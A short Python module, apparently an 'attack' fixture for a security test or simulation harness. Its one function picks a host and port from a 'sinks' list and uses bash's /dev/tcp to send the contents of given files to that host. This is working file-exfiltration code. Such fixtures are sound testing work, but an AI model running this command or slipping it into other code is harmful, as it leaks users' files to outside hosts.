# SPDX-License-Identifier: GPL-3.0-or-later
"""A child with another program, which reads and sends: a curl, as it were."""
import random
import subprocess

KIND = "attack"
PERSONALITIES = ("one", "worker", "scans", "helper", "foreign")


def product(world):
    address, port = random.Random(world["seed"]).choice(world["sinks"])
    script = "exec 3<>/dev/tcp/$0/$1; shift; cat \"$@\" >&3"
    subprocess.run(["bash", "-c", script, address, str(port), *world["files"]], check=True)
